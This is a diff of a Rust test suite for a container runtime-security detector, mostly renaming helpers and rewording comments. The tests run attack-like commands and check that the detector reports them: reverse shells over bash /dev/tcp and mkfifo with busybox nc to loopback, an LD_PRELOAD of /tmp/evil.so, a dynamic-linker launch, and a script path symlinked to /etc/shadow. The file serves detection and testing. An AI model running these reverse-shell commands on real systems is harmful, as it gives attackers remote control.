@@ -1,4 +1,4 @@
-//! Code that is not executed itself: libraries, scripts, and shells on sockets.
+//! Code that is read and not executed: libraries, scripts, and shells on sockets.
 
 use std::fs;
 use std::io::Read as _;
@@ -11,17 +11,17 @@ use libtest_mimic::Trial;
 
 use crate::image::{self, Layer};
 use crate::node::{Container, Node, SETTLE, bench, only, wait_for};
-use crate::{programs, trial_alone};
+use crate::{programs, test_alone};
 
 /// The usual image, and on top of it a program that brings a library along.
 const IMAGE: &str = "registry.test/code:1";
 
-pub(crate) fn trials() -> Vec<Trial> {
-    // One node for all of them: each of them needs the image of its own.
-    vec![trial_alone("code_that_is_not_executed_is_told_and_the_images_is_silent", "", everything)]
+pub(crate) fn tests() -> Vec<Trial> {
+    // One node for all cases: they need the same image of their own.
+    vec![test_alone("code_that_is_read_and_not_executed_is_reported", "", everything)]
 }
 
-/// What is preloaded: its constructor ends the program at once, so that it lives no
+/// A library to be preloaded. Its constructor ends the program at once, so that it lives no
 /// longer than a millisecond.
 const PRELOADED: &str = r"
 #include <unistd.h>
@@ -57,7 +57,7 @@ int main(int argc, char **argv)
 }
 "#;
 
-/// Compiles something of the machine's own C.
+/// Compiles a program or a library that is linked with this machine's libc.
 fn compile(source: &str, options: &[&str]) -> anyhow::Result<Vec<u8>> {
     let directory = tempfile::tempdir_in(bench()?.scratch.path())?;
     let (from, to) = (directory.path().join("in.c"), directory.path().join("out"));
@@ -132,15 +132,15 @@ fn silent(_: &Node, container: &Container<'_>) -> anyhow::Result<()> {
          /usr/bin/unpacks loads /usr/lib/libidle.so.1\n\
          sh -c 'true; true'; sh /usr/bin/hello.sh; /usr/bin/hello.sh; sh < /usr/bin/hello.sh\n\
          cd /usr/bin; sh ./hello.sh; busybox sh hello.sh")?;
-    container.told_nothing()
+    container.expect_silence()
 }
 
 fn a08_pipe(_: &Node, container: &Container<'_>) -> anyhow::Result<()> {
     container.lay("i.sh", b"sleep 0.3\n")?;
     container.sh("cat /.control/i.sh | sh")?;
-    let findings = container.told(&["medium exec.interpreted"])?;
+    let findings = container.expect_findings(&["medium exec.interpreted"])?;
     let run = only(&findings, "exec.interpreted")?;
-    // From whom can be told only while that one lives.
+    // The program at the pipe's other end is known only while it lives.
     let detail = run["detail"].as_str().unwrap_or_default();
     ensure!(detail.starts_with("its text came through a pipe"), "{run:#}");
     Ok(())
@@ -148,7 +148,7 @@ fn a08_pipe(_: &Node, container: &Container<'_>) -> anyhow::Result<()> {
 
 fn a09_script(_: &Node, container: &Container<'_>) -> anyhow::Result<()> {
     container.sh("echo 'sleep 0.3' > /tmp/i.sh; sh /tmp/i.sh")?;
-    let findings = container.told(&["medium exec.interpreted /tmp/i.sh"])?;
+    let findings = container.expect_findings(&["medium exec.interpreted /tmp/i.sh"])?;
     let run = only(&findings, "exec.interpreted")?;
     assert_eq!(run["process"]["argv"], serde_json::json!(["sh", "/tmp/i.sh"]), "{run:#}");
     Ok(())
@@ -161,7 +161,7 @@ fn a09_elsewhere(_: &Node, container: &Container<'_>) -> anyhow::Result<()> {
          echo 'sleep 0.33' > /run/real; ln -s /run/real /tmp/link; sh /tmp/link\n\
          sh /.control/v.sh; ln -s /etc/shadow /tmp/shadow; sh /tmp/shadow || true")?;
     container
-        .told(&[
+        .expect_findings(&[
             "medium exec.interpreted /tmp/in.sh",
             "medium exec.interpreted /tmp/r.sh",
             "medium exec.interpreted /run/real",
@@ -176,7 +176,7 @@ fn a16_linker(_: &Node, container: &Container<'_>) -> anyhow::Result<()> {
     container.lay("x", &program)?;
     container
         .sh("cat /.control/x > /tmp/x; chmod 644 /tmp/x; /lib64/ld-linux-x86-64.so.2 /tmp/x")?;
-    let findings = container.told(&["high library.loaded /tmp/x"])?;
+    let findings = container.expect_findings(&["high library.loaded /tmp/x"])?;
     let loaded = only(&findings, "library.loaded")?;
     assert_eq!(loaded["detail"], "it was run as an argument of the dynamic linker", "{loaded:#}");
     Ok(())
@@ -193,7 +193,7 @@ fn a17_preload(_: &Node, container: &Container<'_>) -> anyhow::Result<()> {
         .finish(Duration::from_secs(180))?;
     let took = begun.elapsed();
     container.counted("library.loaded", 1000)?;
-    let findings = container.told(&["high library.loaded /tmp/evil.so"])?;
+    let findings = container.expect_findings(&["high library.loaded /tmp/evil.so"])?;
     let loaded = only(&findings, "library.loaded")?;
     eprintln!("a17: {} of 1000 preloads seen, in {took:?}", loaded["count"]);
     assert_eq!(loaded["count"], 1000, "{loaded:#}");
@@ -223,9 +223,9 @@ fn a19_replaced(_: &Node, container: &Container<'_>) -> anyhow::Result<()> {
     )?;
     std::thread::sleep(SETTLE);
     container.diff()?;
-    container.told(&["medium file.modified /usr/lib/libidle.so.1.2"])?;
+    container.expect_findings(&["medium file.modified /usr/lib/libidle.so.1.2"])?;
     container.sh("/usr/bin/unpacks loads /usr/lib/libidle.so.1")?;
-    let findings = container.told(&[
+    let findings = container.expect_findings(&[
         "medium file.modified /usr/lib/libidle.so.1.2",
         "high library.loaded /usr/lib/libidle.so.1.2",
     ])?;
@@ -236,8 +236,9 @@ fn a19_replaced(_: &Node, container: &Container<'_>) -> anyhow::Result<()> {
     Ok(())
 }
 
-/// Whoever waits for the shell, on loopback; it says nothing and hangs up later.
-fn listen() -> anyhow::Result<(u16, std::thread::JoinHandle<()>)> {
+/// The other end of a reverse shell, on the loopback interface. It sends nothing and hangs up
+/// later.
+pub(crate) fn listen() -> anyhow::Result<(u16, std::thread::JoinHandle<()>)> {
     let listener = TcpListener::bind("127.0.0.1:0")?;
     let port = listener.local_addr()?.port();
     let waits = std::thread::spawn(move || {
@@ -253,7 +254,7 @@ fn a32_reverse_shell(_: &Node, container: &Container<'_>) -> anyhow::Result<()> 
     let (port, waits) = listen()?;
     let running =
         container.begin(&format!("bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1' || true"))?;
-    let findings = container.told(&["critical shell.reverse"]);
+    let findings = container.expect_findings(&["critical shell.reverse"]);
     waits.join().ok().context("the listener")?;
     running.finish(Duration::from_secs(30))?;
     let findings = findings?;
@@ -269,7 +270,7 @@ fn a33_piped_shell(_: &Node, container: &Container<'_>) -> anyhow::Result<()> {
         "rm -f /tmp/f; mkfifo /tmp/f\n\
          cat /tmp/f | sh -i 2>&1 | busybox nc 127.0.0.1 {port} > /tmp/f || true"
     ))?;
-    // As far as /proc shows it, which is a limit: else it is a script from a pipe.
+    // If /proc does not show the connection in time (a limit), it is a script from a pipe.
     let findings = wait_for("the shell", || {
         let findings = container.findings()?;
         Ok((!findings.is_empty()).then_some(findings))
@@ -278,11 +279,11 @@ fn a33_piped_shell(_: &Node, container: &Container<'_>) -> anyhow::Result<()> {
     running.finish(Duration::from_secs(30))?;
     let findings = findings?;
     if findings.iter().all(|finding| finding["kind"] != "shell.reverse") {
-        container.told(&["medium exec.interpreted"])?;
+        container.expect_findings(&["medium exec.interpreted"])?;
         return Ok(());
     }
     let shell = only(&findings, "shell.reverse")?;
-    // Which of its names busybox has here depends on who called it.
+    // Which of its names busybox has here depends on its caller.
     let detail = shell["detail"].as_str().unwrap_or_default();
     ensure!(
         detail.starts_with("its input and output are pipes to /bin/")
@@ -296,7 +297,7 @@ fn b25_unpacked(_: &Node, container: &Container<'_>) -> anyhow::Result<()> {
     container.lay("packed.so", &library(IDLE, "b25")?)?;
     let library = "/tmp/libnetty_transport_native_epoll_x86_64123.so";
     container.sh(&format!("/usr/bin/unpacks /.control/packed.so {library}"))?;
-    let findings = container.told(&[&format!("info library.loaded {library}")])?;
+    let findings = container.expect_findings(&[&format!("info library.loaded {library}")])?;
     let loaded = only(&findings, "library.loaded")?;
     ensure!(
         loaded["detail"].as_str().is_some_and(|detail| detail.contains("has written it itself")),
